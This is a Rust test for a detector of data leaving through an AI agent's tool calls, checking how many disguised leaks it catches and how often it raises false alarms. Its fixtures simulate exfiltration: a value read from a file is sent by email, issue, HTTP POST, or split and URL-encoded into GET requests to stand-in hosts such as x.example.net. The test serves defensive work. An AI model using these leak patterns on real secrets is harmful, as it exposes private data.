//! Private values that leave in ways that no detector was made for, and values like them that nobody read before.

#![expect(clippy::unwrap_used, reason = "helpers of a test")]

mod encodings;
mod values;
mod ways;

use firedoor_inspect::{Inspector, record::inspect_record};
use firedoor_model::{Confidence, Severity};
use serde_json::{Value, json};

use crate::{
    values::{FORMS, Numbers},
    ways::{Sent, WAYS},
};

/// The call of a tool that sends a text.
fn sends(kind: usize, text: &str) -> Value {
    let (tool, arguments) = match kind % 4 {
        0 => (
            "send_email",
            json!({ "to": "ops@example.net", "subject": "status", "body": format!("see below\n{text}\nregards") }),
        ),
        1 => ("create_issue", json!({ "title": "build failure", "body": format!("trace: {text}") })),
        2 => ("http_post", json!({ "url": "https://api.example.net/collect", "body": text })),
        _ => ("search", json!({ "query": text })),
    };
    json!({ "server": "net", "tool": tool, "arguments": arguments })
}

/// A value that is read, and what leaves.
fn record(kind: usize, read: &str, sent: &Sent) -> String {
    let bare = matches!(sent, Sent::Parts(_));
    let result = if bare { read.to_owned() } else { format!("# config\nvalue: {read}\nupdated: 2026-01-01\n") };
    let sinks = match sent {
        Sent::Text(text) => vec![sends(kind, text)],
        Sent::Arguments(arguments) => vec![json!({ "server": "net", "tool": "http_post", "arguments": arguments })],
        Sent::Parts(parts) => parts
            .iter()
            .enumerate()
            .map(|(i, part)| match kind % 3 {
                0 => {
                    let part: String = part.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect();
                    json!({ "server": "net", "tool": "http_get", "arguments": { "url": format!("https://x.example.net/?i={i}&d={part}") } })
                }
                1 => json!({ "server": "net", "tool": "send_message", "arguments": { "text": part } }),
                _ => json!({ "server": "net", "tool": "create_issue", "arguments": { "title": format!("part {i}"), "body": part } }),
            })
            .collect(),
    };
    let source = json!({ "server": "files", "tool": "read_file", "result": result });
    json!({ "id": "1", "kind": "flow", "payload": { "sources": [source], "sinks": sinks } }).to_string()
}

fn asks(inspector: &Inspector, line: &str) -> bool {
    let report = inspect_record(inspector, line).unwrap();
    report.findings.iter().any(|f| {
        f.detector.starts_with("flow/") && f.severity >= Severity::Medium && f.confidence >= Confidence::Likely
    })
}

/// Of each way so many values are sent, and what falls below or above these shares of all is a fault. What it is measured at is in
/// `docs/evaluation.md`.
const EACH: usize = 12;
const CAUGHT: f64 = 0.98;
const WRONG: f64 = 0.002;

#[test]
fn values_are_seen_however_they_are_written() {
    let inspector = Inspector::new();
    let mut numbers = Numbers(0x2545_F491_4F6C_DD1D);
    let (mut caught, mut wrong, mut missed) = (0, Vec::new(), Vec::new());
    for (name, way) in WAYS {
        let before = caught;
        for kind in 0..EACH {
            let form = FORMS[kind % FORMS.len()];
            let (value, other) = (form(&mut numbers), form(&mut numbers));
            // The second time in another call.
            let call = kind + kind / FORMS.len();
            caught += usize::from(asks(&inspector, &record(call, &value, &way(&value))));
            if asks(&inspector, &record(call, &value, &way(&other))) {
                wrong.push(name);
            }
        }
        if caught - before < EACH {
            missed.push(format!("{name}: {} of {EACH}", caught - before));
        }
    }
    let all = (WAYS.len() * EACH) as f64;
    println!("{caught} of {all} are caught, {} others interrupt; not all of\n{}", wrong.len(), missed.join("\n"));
    assert!(caught as f64 >= all * CAUGHT, "only {caught} of {all} are caught: {missed:?}");
    assert!(wrong.len() as f64 <= all * WRONG, "values that nobody read interrupt: {wrong:?}");
}
